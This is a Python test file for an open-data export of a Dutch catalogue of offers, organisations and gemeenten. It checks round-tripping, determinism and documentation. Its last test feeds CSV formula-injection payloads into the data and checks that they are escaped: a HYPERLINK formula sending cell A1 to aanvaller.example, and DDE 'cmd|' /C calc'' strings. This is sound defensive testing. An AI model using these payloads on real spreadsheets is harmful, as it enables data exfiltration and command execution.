"""Open data: the JSON and CSV files hold exactly what data/ says, are deterministic, carry their
format version, and every field and column is described in docs/open-data.md."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from wijzer.core import models as m
from wijzer.core.catalogue import load_catalogue
from wijzer.site.opendata import FORMAT_VERSION, open_data

ROOT = Path(__file__).resolve().parent.parent.parent
DOC = (ROOT / "docs" / "open-data.md").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def cat():
    result = load_catalogue(ROOT / "data")
    assert result.catalogue is not None, result.errors
    return result.catalogue


@pytest.fixture(scope="module")
def files(cat):
    return open_data(cat)


@pytest.fixture(scope="module")
def docs(files):
    return {name: json.loads(content) for name, content in files.items() if name.endswith(".json")}


def rows(content: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content)))


def expected_gemeenten(cat, area: m.Area) -> set[str]:
    """Written out here, not taken from the catalogue: listed gemeenten plus those of listed regions."""
    codes = set(area.gemeenten)
    for region_id in area.regions:
        codes |= set(cat.regions[region_id].gemeenten)
    return codes


def test_every_json_file_carries_format_version_and_licence(docs):
    assert set(docs) == {"offers.json", "organisations.json", "gemeenten.json"}
    for name, body in docs.items():
        assert body["format"] == "wijzer-open-data", name
        assert body["version"] == FORMAT_VERSION, name
        assert body["licence"] == "CC-BY-4.0", name


def test_the_documented_version_is_the_written_version():
    assert re.fullmatch(r"\d+\.\d+", FORMAT_VERSION)
    assert f"**formaatversie {FORMAT_VERSION}**" in DOC
    assert f"| {FORMAT_VERSION} |" in DOC, "de versietabel in docs/open-data.md mist deze versie"


def _dated(model):
    """The entity with a date for every source (a source without its own date was consulted on
    the review date), the form the open data gives."""
    return model.model_copy(update={"sources_consulted": [m.SourceRef(url=u, consulted=d) for u, d in model.consulted_sources]})


def _from_json(model_class, item: dict):
    assert [d["url"] for d in item["sources_consulted"]] == item["sources"], "sources en sources_consulted lopen gelijk"
    return model_class.model_validate_json(json.dumps(item))


def test_offers_round_trip_to_the_data(cat, docs):
    offers = docs["offers.json"]["offers"]
    assert [o["id"] for o in offers] == sorted(cat.offers)
    for item in offers:
        # Every field survives: the JSON validates back into the exact same offer.
        assert _from_json(m.Offer, item) == _dated(cat.offers[item["id"]])
    tiers = docs["offers.json"]["vocabularies"]["tiers"]
    assert [t["id"] for t in tiers] == [t.id for t in sorted(cat.tiers.values(), key=lambda t: t.level)]
    assert docs["offers.json"]["vocabularies"]["evidence"] == m.EVIDENCE_LABELS


def test_organisations_round_trip_to_the_data(cat, docs):
    orgs = docs["organisations.json"]["organisations"]
    assert [o["id"] for o in orgs] == sorted(cat.organisations)
    for item in orgs:
        assert _from_json(m.Organisation, item) == _dated(cat.organisations[item["id"]])


def test_gemeenten_list_their_local_offers_and_organisations(cat, docs):
    body = docs["gemeenten.json"]
    assert body["national_offers"] == sorted(o.id for o in cat.offers.values() if o.area.national)
    assert body["national_organisations"] == sorted(o.id for o in cat.organisations.values() if o.area.national)
    assert [r["id"] for r in body["regions"]] == sorted(cat.regions)
    assert [g["code"] for g in body["gemeenten"]] == sorted(cat.gemeenten)
    assert len(body["gemeenten"]) == 342
    for g in body["gemeenten"]:
        source = cat.gemeenten[g["code"]]
        assert (g["name"], g["province"], g.get("entry_point")) == (source.name, source.province, source.entry_point)
        offers = sorted(o.id for o in cat.offers.values() if not o.area.national and g["code"] in expected_gemeenten(cat, o.area))
        orgs = sorted(o.id for o in cat.organisations.values() if not o.area.national and g["code"] in expected_gemeenten(cat, o.area))
        assert g["offers"] == offers, g["code"]
        assert g["organisations"] == orgs, g["code"]
    zwolle = next(g for g in body["gemeenten"] if g["code"] == "GM0193")
    assert zwolle["slug"] == "zwolle"


def test_csv_files_have_one_row_per_entity_with_the_same_values(cat, files):
    offers = rows(files["offers.csv"])
    assert [r["id"] for r in offers] == sorted(cat.offers)
    for row in offers:
        offer = cat.offers[row["id"]]
        assert row["name"] == offer.name
        assert row["audiences"].split("; ") == list(offer.audiences)
        assert row["ages_min"] == (str(offer.ages.min) if offer.ages else "")
        assert row["evidence_level"] == offer.evidence.level
        assert row["evidence_url"] == (offer.evidence.url or "")
        assert row["national"] == ("true" if offer.area.national else "false")
        assert row["sources"].split("; ") == offer.source_urls
        assert row["sources_consulted"].split("; ") == [f"{u} ({d.isoformat()})" for u, d in offer.consulted_sources]
    orgs = rows(files["organisations.csv"])
    assert [r["id"] for r in orgs] == sorted(cat.organisations)
    for row in orgs:
        contact = cat.organisations[row["id"]].contact
        assert row["phone"] == (contact.phone or "")
        assert row["email"] == (contact.email or "")
        assert row["postcode"] == (contact.address.postcode if contact.address else "")
    gemeenten = rows(files["gemeenten.csv"])
    assert [r["code"] for r in gemeenten] == sorted(cat.gemeenten)
    assert all(r["website"] == (cat.gemeenten[r["code"]].website or "") for r in gemeenten)
    assert sum(1 for r in gemeenten if r["website"]) > 300  # a gemeente's own site, where the two lists agreed


def test_output_is_deterministic(files):
    again = open_data(load_catalogue(ROOT / "data").catalogue)
    assert again == files
    assert not re.search(r"\d{4}-\d{2}-\d{2}T\d{2}:", "".join(files.values())), "geen tijdstempels"


def test_every_field_and_column_is_documented(files):
    documented = set(re.findall(r"`([a-z_]+)`", DOC))
    models = [m.Offer, m.Organisation, m.Gemeente, m.Region, m.Tier, m.Contact, m.Address, m.Evidence, m.AgeRange, m.Area]
    fields = {name for model in models for name in model.model_fields}
    assert not fields - documented, f"niet beschreven in docs/open-data.md: {sorted(fields - documented)}"
    for name in ("offers.csv", "organisations.csv", "gemeenten.csv"):
        columns = files[name].splitlines()[0].split(",")
        assert not set(columns) - documented, f"{name}: {sorted(set(columns) - documented)}"
        assert "`, `".join(columns) in " ".join(DOC.split()), f"de kolommen van {name} staan niet in volgorde in docs/open-data.md"
    for key in json.loads(files["gemeenten.json"]):
        assert f"`{key}`" in DOC, key


def test_the_built_site_ships_these_files(built_site, files):
    for name, content in files.items():
        assert (built_site / "data" / name).read_text(encoding="utf-8") == content, name


HOSTILE = {
    "=HYPERLINK(\"https://aanvaller.example/?d=\"&A1,\"Klik\")": "'=HYPERLINK(\"https://aanvaller.example/?d=\"&A1,\"Klik\")",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_formula_in_the_data_is_text_in_the_csv_and_exact_in_the_json(tmp_path, hostile):
    import shutil

    shutil.copytree(ROOT / "tests" / "fixtures" / "valid", tmp_path / "data")
    for name in ("offers.yaml", "organisations.yaml"):
        path = tmp_path / "data" / name
        text = path.read_text(encoding="utf-8")
        quoted = "'" + hostile.replace("'", "''") + "'"
        text = text.replace("    name: Advieslijn\n", f"    name: {quoted}\n").replace("    name: Veilig Thuis\n", f"    name: {quoted}\n")
        path.write_text(text, encoding="utf-8")
    result = load_catalogue(tmp_path / "data")
    assert result.catalogue is not None, result.errors
    out = open_data(result.catalogue)
    for csv_name, json_name, key in (("offers.csv", "offers.json", "offers"), ("organisations.csv", "organisations.json", "organisations")):
        cells = [row["name"] for row in rows(out[csv_name])]
        assert HOSTILE[hostile] in cells and hostile not in cells
        assert hostile in [item["name"] for item in json.loads(out[json_name])[key]]
